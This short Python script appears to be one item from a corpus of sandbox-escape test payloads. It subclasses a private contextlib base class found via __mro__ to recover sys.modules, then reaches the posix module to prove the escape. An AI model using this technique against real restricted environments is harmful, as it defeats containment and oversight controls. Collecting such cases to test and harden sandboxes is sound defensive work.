# technique: the same by an attribute of the trusted class, found by __mro__
# goal: import
# source: own analysis: confused deputies
import contextlib
base = contextlib.redirect_stdout.__mro__[1]


class Redirect(base):
    _stream = 'modules'


redirect = Redirect({})
redirect.__enter__()
found = redirect._old_targets[0]
redirect.__exit__(None, None, None)
print('ESCAPED pid=%d' % found['posix'].getpid())
